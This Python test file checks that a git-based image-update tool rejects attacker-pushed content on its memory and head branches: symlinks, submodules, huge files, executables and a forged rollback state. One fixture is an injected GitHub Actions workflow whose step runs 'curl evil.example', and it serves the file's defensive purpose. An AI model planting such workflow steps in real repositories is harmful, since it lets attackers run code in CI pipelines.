"""Malicious content on side branches in a real repository: links, submodules, files of any size."""

from pathlib import Path

import pytest
from support import git, variants
from support.git_branch import GitBranch
from support.history_scenes import FIRST, HEAD, Scene, verdicts

from task.git.names import MEMORY
from task.landing.waiting_list import list_path
from task.model import Report

pytestmark = pytest.mark.slow
LIST = list_path(HEAD)
STATE = ".image-update/apps/a/argocd_a.state"
EVIL = "on: push\njobs: {evil: {steps: [{run: curl evil.example}]}}\n"
MADE_UP = """\
files:
  apps/a/kustomization.yaml:
    images:
      web:
        hold: {reason: x}
        rollback: {to: 6.6.6, tag: 6.6.6, was: 1.0.0}
"""


def scene_in(folder: Path) -> Scene:
    """Return a scene in which web 1.1.0 is waiting, and api is held on the memory branch."""
    scene = Scene(made=lambda files: GitBranch(files, folder))
    scene.event("web:1.1.0")
    scene.by_hand("hold", "api")
    return scene


def repo_of(scene: Scene) -> Path:
    assert isinstance(scene.branch, GitBranch)
    return scene.branch.repo


def memory_name(scene: Scene) -> str:
    names = git(repo_of(scene), "for-each-ref", "--format=%(refname:short)", f"refs/heads/{MEMORY}")
    (name,) = names.split()
    return name


def put(scene: Scene, branch: str, path: str, mode: str, text: str | int) -> None:
    """Push a commit with one more tree entry, like an attacker who may push to this branch.

    A number stands for a text of that length.
    """
    if isinstance(text, int):
        text = "x" * text
    data = f"M {mode} inline {path}\ndata {len(text.encode())}\n{text}\n"
    if mode == "160000":
        data = f"M 160000 {'1' * 40} {path}\n"
    who = "committer Eve <eve@example.com> 1700000000 +0000"
    stream = f"commit refs/heads/{branch}\n{who}\ndata 4\nevil\nfrom refs/heads/{branch}^0\n{data}"
    git(repo_of(scene), "fast-import", "--quiet", "--force", stdin=stream.encode())


def entries(scene: Scene, branch: str) -> dict[str, str]:
    """Return the modes of a branch's files, keyed by path."""
    lines = git(repo_of(scene), "ls-tree", "-r", branch).splitlines()
    return {line.partition("\t")[2]: line.split()[0] for line in lines}


def warnings(report: Report) -> str:
    return "\n".join(problem.message for problem in report.problems)


@pytest.mark.parametrize(
    "files",
    [
        [
            (".github/workflows/ci.yaml", "100644", EVIL),
            (".image-update/waiting/link", "120000", "../../.github/workflows/ci.yaml"),
            (".image-update/waiting/executable", "100755", EVIL),
            (".image-update/waiting/a/b", "100644", EVIL),
        ],
        [
            (".image-update/config", "100644", "version: 1\nwrites: {paths: ['**']}\n"),
            (".image-update/waiting/submodule", "160000", ""),
            (".image-update/waiting/large", "100644", 11_000_000),
            (".gitmodules", "100644", "[submodule]\n"),
        ],
    ],
    ids=["instructions", "settings"],
)
def test_foreign_files_on_the_memory_branch_are_not_carried_over(
    files: list[tuple[str, str, str | int]], tmp_path: Path
) -> None:
    scene = scene_in(tmp_path)
    for path, mode, text in files:
        put(scene, memory_name(scene), path, mode, text)
    report = scene.event("web:1.2.0", "api:1.2.0")
    assert verdicts(report) == ["defer", "update"] or verdicts(report) == ["update", "defer"]
    for path, _mode, _text in files:
        assert f"{path} on the memory branch was not written by a run" in warnings(report)
    assert entries(scene, memory_name(scene)) == {LIST: "100644", STATE: "100644"}
    assert set(entries(scene, HEAD)) == set(entries(scene, "main"))
    assert warnings(scene.event("web:1.3.0")) == ""


@pytest.mark.parametrize(
    ("mode", "text"),
    variants(
        [
            pytest.param("120000", "../apps/a/argocd_a.state", id="link"),
            pytest.param("100644", 50_000_000, id="50 MB"),
        ],
        at_night=[
            pytest.param("160000", "", id="submodule"),
            pytest.param("100755", "version: '1'\nhead: bump\n", id="program"),
            pytest.param("100644", "\0", id="no text"),
        ],
    ),
)
def test_a_binary_list_causes_an_error_only_for_its_head_branch(
    mode: str, text: str | int, tmp_path: Path
) -> None:
    scene = scene_in(tmp_path)
    before = git(repo_of(scene), "rev-parse", HEAD)
    put(scene, memory_name(scene), LIST, mode, text)
    report = scene.event("web:1.2.0")
    assert verdicts(report) == ["error"]
    assert git(repo_of(scene), "rev-parse", HEAD) == before
    assert verdicts(scene.event("web:1.2.0", story=scene.direct)) == ["update"]


@pytest.mark.parametrize(
    ("mode", "text"),
    variants(
        [pytest.param("160000", "", id="submodule")],
        at_night=[
            pytest.param("120000", "../../waiting/bump", id="link"),
            pytest.param("100644", 11_000_000, id="11 MB"),
        ],
    ),
)
def test_a_binary_state_file_does_not_end_a_hold(
    mode: str, text: str | int, tmp_path: Path
) -> None:
    scene = scene_in(tmp_path)
    put(scene, memory_name(scene), STATE, mode, text)
    for _ in range(2):
        for story in (scene.story, scene.direct):
            assert verdicts(scene.event("api:1.2.0", story=story)) == ["error"]
        scene.event("cron:1.2.0")
    assert STATE in entries(scene, memory_name(scene))
    assert scene.base["api"] == FIRST


@pytest.mark.parametrize(
    ("path", "mode", "text"),
    variants(
        [
            (".github/workflows/ci.yaml", "100644", EVIL),
            (STATE, "100644", MADE_UP),
            ("apps/a/kustomization.yaml", "120000", "../../evil.yaml"),
        ],
        at_night=[
            (".image-update/config", "100644", "version: 1\n"),
            ("apps/a", "160000", ""),
        ],
    ),
    ids=lambda value: str(value)[:30],
)
def test_files_pushed_to_a_head_branch_are_not_carried_over_to_a_new_head_branch(
    path: str, mode: str, text: str | int, tmp_path: Path
) -> None:
    """A branch with such a file gets at most one commit on top. The file never reaches the base."""
    scene = scene_in(tmp_path)
    put(scene, HEAD, path, mode, text)
    theirs = git(repo_of(scene), "rev-parse", HEAD)
    scene.event("web:1.2.0")
    now = git(repo_of(scene), "rev-parse", HEAD)
    if now != theirs:
        assert git(repo_of(scene), "rev-parse", f"{HEAD}^") == theirs
        changed = git(repo_of(scene), "diff", "--name-only", theirs, now).split()
        assert set(changed) <= {"apps/a/kustomization.yaml", STATE}
    assert path not in entries(scene, "main") or path == "apps/a/kustomization.yaml"
    git(repo_of(scene), "update-ref", "-d", f"refs/heads/{HEAD}")
    scene.by_hand("release", "web")  # a forged hold can only hold builds
    scene.event("web:1.3.0")
    assert "6.6.6" not in str(scene.branch.heads)
    assert set(entries(scene, HEAD)) == set(entries(scene, "main"))
    assert set(entries(scene, HEAD).values()) == {"100644"}
